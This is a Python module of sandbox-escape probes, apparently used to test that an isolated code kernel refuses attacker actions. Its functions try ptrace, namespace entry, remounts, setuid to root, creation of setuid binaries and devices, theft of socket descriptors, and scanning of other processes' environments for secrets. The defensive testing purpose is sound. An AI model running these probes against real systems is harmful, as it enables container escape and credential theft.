"""What an attacker's kernel tries; each function runs by itself, wherever its source is sent.

A function returns what it got hold of, or nothing. It may raise OSError: that is a refusal.
"""

# ruff: noqa: PLC0415  each function is sent alone, so it imports what it needs

import inspect
import json
from collections.abc import Callable

REFUSED = "refused"


def program(attempt: Callable[..., object], *arguments: str) -> str:
    """Return source code that makes the attempt and prints what came of it."""
    call = f"{attempt.__name__}(*{json.dumps(arguments)})"
    return (
        f"{inspect.getsource(attempt)}\n"
        f"try:\n    print({call} or {REFUSED!r})\n"
        f"except OSError:\n    print({REFUSED!r})\n"
    )


def read_file(path: str) -> object:
    with open(path, "rb") as file:  # noqa: PTH123
        return file.read(16)


def open_to_write(path: str) -> object:
    with open(path, "a"):  # noqa: PTH123
        return path


def find_writable_setting() -> object:
    """Look for a file of the kernel's own, not of a process, that can be opened to write."""
    import os

    def opens(path: str) -> bool:
        try:
            os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            return False
        return True

    tops = [f"/proc/{name}" for name in os.listdir("/proc") if not name.isdigit()]  # noqa: PTH208
    own = [top for top in tops if not os.path.islink(top)]  # noqa: PTH114
    files = [top for top in own if os.path.isfile(top)]  # noqa: PTH113
    for top in own:
        files += [f"{at}/{name}" for at, _, names in os.walk(top) for name in names]
    return [path for path in files if opens(path)]


def rename_door() -> object:
    import os

    os.rename("/run/museion/public.sock", "/run/museion/other.sock")  # noqa: PTH104
    return "renamed"


def find_way_out(abstract: str) -> object:
    """Take the sockets of the relay inside, and look for one that leads to the machine's network.

    An inet socket of another network could be disconnected and pointed at any port there. A
    unix socket of another network could reach an abstract socket there.
    """
    import ctypes
    import os
    import socket

    pidfd_getfd, closed = 438, 7
    libc = ctypes.CDLL(None)
    relay = os.pidfd_open(2)
    taken = [libc.syscall(pidfd_getfd, relay, number, 0) for number in range(3, 80)]
    with open("/proc/net/tcp") as file:  # noqa: PTH123
        known = {line.split()[9] for line in file}
    sockets = []
    for number in (number for number in taken if number >= 0):
        try:
            sockets.append(socket.socket(fileno=number))
        except OSError:  # a pipe, or the loop's own descriptor
            continue
    for each in sockets:
        if each.family == socket.AF_INET:
            state = each.getsockopt(socket.SOL_TCP, socket.TCP_INFO, 1)[0]
            if state != closed and str(os.fstat(each.fileno()).st_ino) not in known:
                return "an inet socket of another network"
        elif not each.connect_ex(f"\0{abstract}"):
            return "an abstract socket of another network"
    return None if sockets else "nothing to take: this attack proves nothing"


def list_folder(path: str) -> object:
    import os

    return os.listdir(path)  # noqa: PTH208


def find_process(words: str) -> object:
    import contextlib
    import glob

    for path in glob.glob("/proc/[0-9]*/cmdline"):  # noqa: PTH207
        with contextlib.suppress(OSError), open(path, "rb") as file:  # noqa: PTH123
            if words.encode() in file.read().replace(b"\0", b" "):
                return path
    return None


def signal_process(pid: str) -> object:
    import os

    os.kill(int(pid), 0)
    return pid


def read_memory(pid: str) -> object:
    with open(f"/proc/{pid}/environ", "rb") as file:  # noqa: PTH123
        return file.read(16)


def trace_process(pid: str) -> object:
    """Stop a process as a debugger would, and let it go again."""
    import ctypes

    seize, detach = 0x4206, 17
    libc = ctypes.CDLL(None)
    if libc.ptrace(seize, int(pid), 0, 0):
        return None
    libc.ptrace(detach, int(pid), 0, 0)
    return pid


def find_socket(path: str) -> object:
    import os
    import stat

    return stat.S_ISSOCK(os.stat(path).st_mode)  # noqa: PTH116


def find_segment(key: str) -> object:
    """Ask for System V memory that exists."""
    import ctypes

    return ctypes.CDLL(None).shmget(int(key), 0, 0) >= 0


def connect_tcp(host: str, port: str) -> object:
    import socket

    with socket.create_connection((host, int(port)), timeout=2):
        return port


def connect_abstract(name: str) -> object:
    import socket

    with socket.socket(socket.AF_UNIX) as client:
        client.connect(f"\0{name}")
        return name


def connect_kernel(kernel_id: str) -> object:
    import glob
    import os
    import socket

    for path in glob.glob(f"/proc/[0-9]*/root/run/kernels/*{kernel_id}-ipc-1"):  # noqa: PTH207
        os.chdir(os.path.dirname(path))  # noqa: PTH120
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(os.path.basename(path))  # noqa: PTH119
            return path
    return None


def connect_agent(cluster: str) -> object:
    """Connect to the sockets of a cluster: its agent's, and its dashboard's."""
    import glob
    import os
    import socket

    found = []
    for path in glob.glob(f"/proc/[0-9]*/root/tmp/museion-*/{cluster}.[sd]*"):  # noqa: PTH207
        os.chdir(os.path.dirname(path))  # noqa: PTH120
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(os.path.basename(path))  # noqa: PTH119
            found.append(path)
    return found


def list_networks() -> object:
    import socket

    return [name for _, name in socket.if_nameindex() if name != "lo"]


def make_namespace(kind: str = "0x10000000") -> object:
    """Leave a namespace; by default for a new one of users, which opens all others."""
    import ctypes

    return ctypes.CDLL(None).unshare(int(kind, 16)) == 0


def enter_namespace(name: str) -> object:
    import ctypes
    import os

    descriptor = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
    return ctypes.CDLL(None).setns(descriptor, 0) == 0


def mount_something() -> object:
    """Cover a folder, bind one, and make what is read-only writable again."""
    import ctypes

    bind, remount = 4096, 32
    libc = ctypes.CDLL(None)
    made = [
        libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        libc.mount(b"/proc/1/root", b"/tmp", None, bind, None),
        libc.mount(b"none", b"/run/museion", None, bind | remount, None),
        libc.umount2(b"/proc/sys", 2),
    ]
    return 0 in made


def become_root() -> object:
    import os

    os.setuid(0)
    return "root"


def gain_by_program() -> object:
    """Run the machine's programs with the set-user-id bit, and one of one's own."""
    import os
    import shutil
    import subprocess

    own = "/tmp/own-id"  # noqa: S108
    shutil.copyfile(shutil.which("id") or "/usr/bin/id", own)
    os.chmod(own, 0o4755)  # noqa: PTH101, S103
    told = subprocess.run([own, "-u"], capture_output=True, text=True, check=False).stdout
    status = open("/proc/self/status").read()  # noqa: PTH123, SIM115
    has_none = "CapEff:\t0000000000000000" in status and "CapBnd:\t0000000000000000" in status
    return told.strip() == "0" or not has_none or "NoNewPrivs:\t1" not in status


def find_device() -> object:
    """List devices that are not the harmless ones of every sandbox; try to make one."""
    import os

    harmless = {"full", "null", "ptmx", "random", "tty", "urandom", "zero"}
    links = {"core", "fd", "stderr", "stdin", "stdout", "console"}
    found = set(os.listdir("/dev")) - harmless - links - {"pts", "shm"}  # noqa: PTH208
    try:
        os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))  # noqa: S108
    except OSError:
        return sorted(found)
    return "made a device"


def write_device_folder() -> object:
    with open("/dev/large", "w"):  # noqa: PTH123
        return "written"


def use_keyring() -> object:
    import ctypes
    import platform

    number = {"x86_64": 250, "aarch64": 219}[platform.machine()]
    get_keyring, session = 0, -3
    return ctypes.CDLL(None).syscall(number, get_keyring, session, 1) >= 0


def call_kernel(*numbers: str) -> object:
    """Make system calls that fail in another way where they are allowed."""
    import ctypes
    import errno

    libc = ctypes.CDLL(None, use_errno=True)
    allowed = []
    for number in numbers:
        ctypes.set_errno(0)
        libc.syscall(int(number), 0, 0, 0, 0, 0)
        if ctypes.get_errno() != errno.EPERM:
            allowed.append(number)
    return allowed


def raise_limit() -> object:
    import resource

    raised = []
    for name in ("RLIMIT_CORE", "RLIMIT_NPROC", "RLIMIT_DATA"):
        number = getattr(resource, name)
        try:
            resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            continue
        raised.append(name)
    return raised


def find_secret(*words: str) -> object:
    """Look for given words in every environment and memory that can be read."""
    import glob

    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):  # noqa: PTH207
        try:
            with open(path, "rb") as file:  # noqa: PTH123
                content = file.read()
        except OSError:
            continue
        found += [path for word in words if word.encode() in content]
    return found


def ask(url: str, token: str) -> object:
    import urllib.error
    import urllib.request

    request = urllib.request.Request(url, headers={"Authorization": f"token {token}"})  # noqa: S310
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:  # noqa: S310
            return answer.read(16)
    except urllib.error.HTTPError:
        return None
